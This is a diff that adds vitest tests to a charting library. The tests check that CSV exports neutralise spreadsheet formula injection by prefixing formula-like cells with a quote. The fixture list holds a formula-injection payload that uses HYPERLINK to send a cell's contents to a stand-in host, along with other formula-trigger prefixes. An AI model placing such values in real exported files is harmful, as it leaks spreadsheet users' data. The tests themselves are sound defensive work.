@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { CELLS, isSubjectCell } from '../../src/charts/cells';
 import { shownTable, tableCsv } from '../../src/charts/chart-table';
+import { isFormula } from '../../src/core/base/formula';
 import type { FigureSpec } from '../../src/charts/figure';
 import { GALLERY } from '../../src/charts/registry';
 import { en } from '../../src/i18n/en';
@@ -119,6 +120,7 @@ describe.each(GALLERY.map((chart) => [chart.id, chart] as const))('%s', (_, char
 });
 
 const AT_ONCE = 30;
+const FORMULAS = ['=HYPERLINK("https://evil.invalid?"&A1)', '+1+1', '-1+1', '@SUM(1)', '\t=1', ' =1', '\uff1d1', '-5'];
 
 test.each(GALLERY.map((chart) => [chart.id, chart] as const))('%s shows every name as text', (_, chart) => {
   const names = hostileWords();
@@ -138,3 +140,44 @@ test.each(GALLERY.map((chart) => [chart.id, chart] as const))('%s shows every na
     expect(chart.reading(view, text)).not.toBe('');
   }
 });
+
+/** RFC 4180 undone, by a way of its own. */
+function recordsOf(csv: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    record.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
+    if (end === ',') continue;
+    records.push(record);
+    record = [];
+  }
+  return records;
+}
+
+test.each(GALLERY.map((chart) => [chart.id, chart] as const))(
+  '%s is saved as CSV with every name as it is, and nothing that runs',
+  (_, chart) => {
+    const names = [...FORMULAS, ...hostileWords()];
+    const seen = new Set<string>();
+    for (let from = 0; from < names.length; from += AT_ONCE) {
+      const own = names.slice(from, from + AT_ONCE);
+      const given = {
+        segments: own.length,
+        name: (label: number) => own[label] ?? '',
+        word: (plain: string) => `${own[0]} ${plain}`,
+      };
+      const { columns, rows } = chart.table(galleryView(chart, given), text);
+      const texts = [columns, ...rows].map((row) => row.map((cell) => (typeof cell === 'string' ? cell : null)));
+      const saved = recordsOf(tableCsv(chart.table(galleryView(chart, given), text)));
+      expect(saved.map((record) => record.length)).toEqual(texts.map((row) => row.length));
+      for (const [at, row] of texts.entries())
+        for (const [column, cell] of row.entries()) {
+          const written = saved[at]?.[column] ?? '';
+          if (cell === null) expect(written).toMatch(/^(-?[\d.e+-]*|-?\d{4,6}-\d\d-\d\d)$/);
+          else expect(written).toBe(isFormula(cell) ? `'${cell}` : cell);
+          if (cell !== null) seen.add(cell);
+        }
+    }
+    expect([...seen].join('\n')).toContain(FORMULAS[0]);
+  },
+);
